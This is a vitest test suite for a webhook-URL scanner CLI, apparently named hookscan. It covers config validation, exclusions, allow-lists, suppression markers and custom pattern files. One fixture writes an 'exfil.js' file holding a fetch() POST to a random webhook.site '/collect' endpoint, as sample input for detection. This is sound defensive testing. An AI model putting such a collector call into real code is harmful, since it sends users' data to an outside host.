// .hookscan.yaml and --patterns through the CLI: every key changes the result as documented, and
// every malformed input is exit 2 with one stderr line that names what is wrong and where.
// Webhook URLs are fabricated at run time (crypto random) so this file holds no secret.
import { randomUUID } from 'node:crypto';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parse as parseYaml, stringify as stringifyYaml } from 'yaml';
import { cli, type Ran } from '../support/cli.js';
import { webhook } from '../support/fabricate.js';

const ROOT = resolve(fileURLToPath(new URL('../..', import.meta.url)));
const BUILTIN = join(ROOT, 'patterns');

// ---- fabricated URLs ------------------------------------------------------------------------
const slack = () => webhook('slack');
const discord = () => webhook('discord');

const webhookSiteSubdomain = () => {
  const secret = randomUUID();
  return { secret, url: `https://${secret}.webhook.site` };
};

// ---- in-process CLI -------------------------------------------------------------------------
interface JsonOut {
  findings: { fingerprint: string; ruleId: string; provider: string; url: string; locations: { path: string; line: number }[] }[];
  stats: { filesScanned: number; filesSkipped: number; suppressed: number; skipped: { path: string; reason: string }[]; findings: number };
}
async function scanJson(cwd: string, ...extra: string[]): Promise<{ code: number; report: JsonOut; stderr: string }> {
  const r = await cli(['scan', '--format', 'json', '--no-redact', ...extra], cwd);
  expect(r.code, r.stderr).not.toBe(2);
  return { code: r.code, report: JSON.parse(r.stdout) as JsonOut, stderr: r.stderr };
}

/** An error run: exit 2 and exactly one line on stderr. */
function expectConfigError(r: Ran, ...mentions: string[]) {
  expect(r.code).toBe(2);
  expect(r.stdout).toBe('');
  const lines = r.stderr.trimEnd().split('\n');
  expect(lines, r.stderr).toHaveLength(1);
  for (const m of mentions) expect(r.stderr).toContain(m);
}

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'hookscan-config-'));
});
afterEach(() => {
  rmSync(dir, { recursive: true, force: true });
});

function write(rel: string, text: string): string {
  const file = join(dir, rel);
  mkdirSync(join(file, '..'), { recursive: true });
  writeFileSync(file, text);
  return file;
}
const config = (text: string) => write('.hookscan.yaml', text);

describe('.hookscan.yaml validation', () => {
  it('an unknown key is exit 2 naming the key and the file', async () => {
    write('a.txt', 'nothing here\n');
    const file = config('exclude:\n  - build/\nexcludes:\n  - dist/\n');
    expectConfigError(await cli(['scan'], dir), "'excludes'", file);
  });

  it.each([
    ['exclude: 3\n', 'exclude'],
    ['exclude: [1, 2]\n', 'exclude'],
    ['disable-rules: slack-incoming-webhook\n', 'disable-rules'],
    ['allow-hosts: {a: b}\n', 'allow-hosts'],
    ['allow-fingerprints: true\n', 'allow-fingerprints'],
    ['max-file-size: lots\n', 'max-file-size'],
    ['max-file-size: -5\n', 'max-file-size'],
  ])('a wrong type (%j) is exit 2 naming the key and the file', async (text, key) => {
    write('a.txt', 'nothing here\n');
    const file = config(text);
    expectConfigError(await cli(['scan'], dir), `'${key}'`, file);
  });

  it('malformed YAML is exit 2 naming the file', async () => {
    write('a.txt', 'nothing here\n');
    const file = config('exclude: [build/, dist/\nallow-hosts:\n  - a\n');
    expectConfigError(await cli(['scan'], dir), file, 'YAML');
  });

  it('a document that is not a mapping is exit 2', async () => {
    write('a.txt', 'nothing here\n');
    const file = config('- exclude\n- fixtures/\n');
    expectConfigError(await cli(['scan'], dir), file);
  });

  it('disable-rules naming an unknown rule id is exit 2 naming the id', async () => {
    write('a.txt', 'nothing here\n');
    config('disable-rules:\n  - slack-incoming-webhok\n');
    expectConfigError(await cli(['scan'], dir), 'slack-incoming-webhok');
  });

  it('an empty config file is the default configuration', async () => {
    const s = slack();
    write('a.env', `HOOK=${s.url}\n`);
    config('');
    const { code, report } = await scanJson(dir);
    expect(code).toBe(1);
    expect(report.findings.map((f) => f.url)).toEqual([s.url]);
  });
});

describe('.hookscan.yaml settings change the result', () => {
  it('exclude: gitignore-style patterns relative to the scan root', async () => {
    const kept = slack();
    const gone1 = slack();
    const gone2 = discord();
    write('src/app.env', `HOOK=${kept.url}\n`);
    write('vendor/lib/hook.env', `HOOK=${gone1.url}\n`);
    write('src/snap/app.snap', `HOOK=${gone2.url}\n`);

    const before = await scanJson(dir);
    expect(before.report.findings).toHaveLength(3);

    config('exclude:\n  - vendor/\n  - "**/*.snap"\n');
    const after = await scanJson(dir);
    expect(after.code).toBe(1);
    expect(after.report.findings.map((f) => f.url)).toEqual([kept.url]);
    // two files excluded, the new .hookscan.yaml itself scanned
    expect(after.report.stats.filesScanned).toBe(before.report.stats.filesScanned - 2 + 1);
  });

  it('disable-rules: the rule is not run, other rules still are', async () => {
    const s = slack();
    const d = discord();
    write('hooks.env', `A=${s.url}\nB=${d.url}\n`);
    config('disable-rules:\n  - slack-incoming-webhook\n');
    const { report } = await scanJson(dir);
    expect(report.findings.map((f) => f.ruleId)).toEqual(['discord-webhook']);
    expect(report.findings[0].url).toBe(d.url);
  });

  it('allow-fingerprints: a reviewed finding is suppressed and counted', async () => {
    const s = slack();
    const d = discord();
    write('hooks.env', `A=${s.url}\nB=${d.url}\n`);
    const first = await scanJson(dir);
    const fp = first.report.findings.find((f) => f.url === s.url)!.fingerprint;
    expect(fp).toMatch(/^[0-9a-f]{16,}$/);

    config(`allow-fingerprints:\n  - ${fp}\n`);
    const { code, report } = await scanJson(dir);
    expect(code).toBe(1);
    expect(report.findings.map((f) => f.url)).toEqual([d.url]);
    expect(report.stats.suppressed).toBe(1);

    config(`allow-fingerprints:\n  - ${fp}\n  - ${first.report.findings.find((f) => f.url === d.url)!.fingerprint}\n`);
    const none = await scanJson(dir);
    expect(none.code).toBe(0);
    expect(none.report.findings).toEqual([]);
    expect(none.report.stats.suppressed).toBe(2);
  });

  it('allow-hosts: an exact host', async () => {
    const s = slack();
    const d = discord();
    write('hooks.env', `A=${s.url}\nB=${d.url}\n`);
    config('allow-hosts:\n  - hooks.slack.com\n');
    const { report } = await scanJson(dir);
    expect(report.findings.map((f) => f.provider)).toEqual(['discord']);
    expect(report.stats.suppressed).toBe(1);
  });

  it('allow-hosts: an exact host does not cover its subdomains or parents', async () => {
    const s = slack();
    write('hooks.env', `A=${s.url}\n`);
    config('allow-hosts:\n  - slack.com\n  - x.hooks.slack.com\n  - lack.com\n');
    const { report } = await scanJson(dir);
    expect(report.findings.map((f) => f.url)).toEqual([s.url]);
  });

  it('allow-hosts: *.suffix covers subdomains and nothing else', async () => {
    const w = webhookSiteSubdomain();
    const s = slack();
    write('exfil.js', `fetch("${w.url}/collect", { method: "POST" });\nconst hook = "${s.url}";\n`);
    const before = await scanJson(dir);
    expect(before.report.findings.map((f) => f.provider).sort()).toEqual(['slack', 'webhook-site']);

    config('allow-hosts:\n  - "*.webhook.site"\n  - "*.lack.com"\n');
    const { report } = await scanJson(dir);
    expect(report.findings.map((f) => f.url)).toEqual([s.url]);
    expect(report.stats.suppressed).toBe(1);

    config('allow-hosts:\n  - "*.slack.com"\n');
    const other = await scanJson(dir);
    expect(other.report.findings.map((f) => f.provider)).toEqual(['webhook-site']);
  });

  it('allow-hosts: matching is case-insensitive', async () => {
    const s = slack();
    write('hooks.env', `A=${s.url.replace('hooks.slack.com', 'Hooks.Slack.COM')}\n`);
    const before = await scanJson(dir);
    expect(before.report.findings).toHaveLength(1);
    config('allow-hosts:\n  - hooks.slack.com\n');
    const { code, report } = await scanJson(dir);
    expect(report.findings).toEqual([]);
    expect(code).toBe(0);
  });

  it('max-file-size: larger files are skipped and counted, smaller ones scanned', async () => {
    const big = slack();
    const small = discord();
    write('big.env', `A=${big.url}\n${'# padding\n'.repeat(300)}`);
    write('small.env', `B=${small.url}\n`);
    config('max-file-size: 2KB\n');
    const { report } = await scanJson(dir);
    expect(report.findings.map((f) => f.url)).toEqual([small.url]);
    expect(report.stats.filesSkipped).toBe(1);
    expect(report.stats.skipped).toEqual([expect.objectContaining({ path: 'big.env', reason: 'too-large' })]);

    config('max-file-size: 1MB\n');
    const all = await scanJson(dir);
    expect(all.report.findings).toHaveLength(2);
    expect(all.report.stats.filesSkipped).toBe(0);
  });

  it('--max-file-size on the command line overrides the config', async () => {
    const big = slack();
    write('big.env', `A=${big.url}\n${'# padding\n'.repeat(300)}`);
    config('max-file-size: 1MB\n');
    const { code, report } = await scanJson(dir, '--max-file-size', '1KB');
    expect(code).toBe(0);
    expect(report.stats.skipped.map((s) => s.reason)).toEqual(['too-large']);
  });
});

describe('hookscan:allow', () => {
  it('a line carrying hookscan:allow is not reported and is counted as suppressed', async () => {
    const allowed = slack();
    const reported = slack();
    write('notify.py', `A = "${allowed.url}"  # hookscan:allow test channel\nB = "${reported.url}"\n`);
    const { code, report } = await scanJson(dir);
    expect(code).toBe(1);
    expect(report.findings.map((f) => f.url)).toEqual([reported.url]);
    expect(report.findings[0].locations[0].line).toBe(2);
    expect(report.stats.suppressed).toBe(1);
  });

  it('the marker on another line does not suppress', async () => {
    const s = slack();
    write('notify.py', `# hookscan:allow\n\nA = "${s.url}"\n`);
    const { report } = await scanJson(dir);
    expect(report.findings.map((f) => f.url)).toEqual([s.url]);
    expect(report.stats.suppressed).toBe(0);
  });

  it('only the marked line is suppressed when the same URL appears twice', async () => {
    const s = slack();
    write('notify.py', `A = "${s.url}"  # hookscan:allow\nB = "${s.url}"\n`);
    const { report } = await scanJson(dir);
    expect(report.findings).toHaveLength(1);
    expect(report.findings[0].locations.map((l) => l.line)).toEqual([2]);
  });
});

describe('--config FILE', () => {
  it('reads another file instead of .hookscan.yaml at the scan root', async () => {
    const s = slack();
    const d = discord();
    write('src/hooks.env', `A=${s.url}\nB=${d.url}\n`);
    config('disable-rules:\n  - discord-webhook\n');
    write('ci/other.yaml', 'disable-rules:\n  - slack-incoming-webhook\n');

    const dflt = await scanJson(dir);
    expect(dflt.report.findings.map((f) => f.provider)).toEqual(['slack']);

    const other = await scanJson(dir, '--config', 'ci/other.yaml');
    expect(other.report.findings.map((f) => f.provider)).toEqual(['discord']);

    const short = await scanJson(dir, '-c', join(dir, 'ci/other.yaml'));
    expect(short.report.findings.map((f) => f.provider)).toEqual(['discord']);
  });

  it('errors in the named file name that file', async () => {
    write('a.txt', 'nothing\n');
    const file = write('ci/other.yaml', 'exclud: []\n');
    expectConfigError(await cli(['scan', '--config', 'ci/other.yaml'], dir), "'exclud'", file);
  });

  it('a named config file that does not exist is exit 2', async () => {
    write('a.txt', 'nothing\n');
    expectConfigError(await cli(['scan', '--config', 'missing.yaml'], dir), 'missing.yaml');
  });

  it('the config of the scanned folder is used when scanning a folder given on the command line', async () => {
    const s = slack();
    write('proj/hooks.env', `A=${s.url}\n`);
    write('proj/.hookscan.yaml', 'exclude:\n  - hooks.env\n');
    const { code, report } = await scanJson(dir, 'proj');
    expect(code).toBe(0);
    expect(report.findings).toEqual([]);
  });
});

describe('--patterns DIR', () => {
  function copySlack(into: string): string {
    mkdirSync(into, { recursive: true });
    const file = join(into, 'slack.yaml');
    cpSync(join(BUILTIN, 'slack.yaml'), file);
    return file;
  }
  function mutate(file: string, fn: (doc: Record<string, any>) => void) {
    const doc = parseYaml(readFileSync(file, 'utf8')) as Record<string, any>;
    fn(doc);
    writeFileSync(file, stringifyYaml(doc));
  }

  it('a valid folder replaces the built-in patterns', async () => {
    const s = slack();
    const d = discord();
    write('hooks.env', `A=${s.url}\nB=${d.url}\n`);
    copySlack(join(dir, 'pats'));
    // scan only the file: the copied pattern file holds Slack examples of its own
    const { report } = await scanJson(dir, '--patterns', 'pats', 'hooks.env');
    expect(report.findings.map((f) => f.provider)).toEqual(['slack']);
  });

  it.each([
    [
      'a regex RE2 cannot compile',
      (d: Record<string, any>) => {
        d.patterns[0].regex = 'hooks\\.slack\\.com/services/([A-Z0-9/+';
      },
      'slack-incoming-webhook',
      /regex/i,
    ],
    [
      'a regex with two capture groups',
      (d: Record<string, any>) => {
        d.patterns[1].regex = '(https://hooks\\.slack\\.com)/workflows/([A-Za-z0-9/]{40,80})';
      },
      'slack-workflow-webhook',
      /capturing group|capture group/i,
    ],
    [
      'a missing examples key',
      (d: Record<string, any>) => {
        delete d.patterns[2].examples;
      },
      'slack-workflow-trigger',
      /examples/,
    ],
    [
      'an unknown key in a pattern',
      (d: Record<string, any>) => {
        d.patterns[0].colour = 'purple';
      },
      'slack-incoming-webhook',
      /unknown key 'colour'/,
    ],
    [
      'a look-ahead (not RE2)',
      (d: Record<string, any>) => {
        d.patterns[0].regex = 'hooks\\.slack\\.com/services/(?=T)([A-Z0-9/]{20,60})';
      },
      'slack-incoming-webhook',
      /regex/i,
    ],
  ])('%s is exit 2 naming the file, the pattern id and the problem', async (_what, change, id, problem) => {
    write('a.txt', 'nothing\n');
    const file = copySlack(join(dir, 'pats'));
    mutate(file, change);
    const r = await cli(['scan', '--patterns', 'pats'], dir);
    expectConfigError(r, 'slack.yaml', id);
    expect(r.stderr).toMatch(problem);
  });

  it('an unknown top-level key is exit 2 naming the file and the key', async () => {
    write('a.txt', 'nothing\n');
    const file = copySlack(join(dir, 'pats'));
    mutate(file, (d) => {
      d.homepage = 'https://slack.com';
    });
    const r = await cli(['scan', '--patterns', 'pats'], dir);
    expectConfigError(r, 'slack.yaml', "'homepage'");
  });

  it('a duplicate pattern id across files is exit 2 naming the file and the id', async () => {
    write('a.txt', 'nothing\n');
    const pats = join(dir, 'pats');
    const first = copySlack(pats);
    const second = join(pats, 'slack-copy.yaml');
    cpSync(first, second);
    mutate(second, (d) => {
      d.provider = 'slack-copy';
      d.patterns = [d.patterns[0]];
    });
    const r = await cli(['scan', '--patterns', 'pats'], dir);
    expectConfigError(r, 'slack-incoming-webhook', 'slack');
    expect(r.stderr).toMatch(/duplicate/i);
    expect(r.stderr).toMatch(/slack-copy\.yaml|slack\.yaml/);
  });

  it('malformed YAML in a pattern file is exit 2 naming the file', async () => {
    write('a.txt', 'nothing\n');
    write('pats/slack.yaml', 'provider: slack\nname: [Slack\n');
    expectConfigError(await cli(['scan', '--patterns', 'pats'], dir), 'slack.yaml');
  });

  it('a folder without pattern files is exit 2', async () => {
    write('a.txt', 'nothing\n');
    mkdirSync(join(dir, 'empty'));
    expectConfigError(await cli(['scan', '--patterns', 'empty'], dir), 'empty');
  });
});
